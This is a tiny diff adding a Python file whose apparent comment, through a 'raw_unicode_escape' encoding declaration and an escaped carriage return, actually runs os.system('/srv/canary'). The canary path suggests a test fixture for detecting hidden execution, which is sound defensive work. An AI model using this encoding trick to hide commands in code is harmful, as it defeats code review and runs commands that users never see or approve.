@@ -1,0 +1,3 @@
+
+# coding: raw_unicode_escape
+# total\u000dimport os; os.system('/srv/canary')
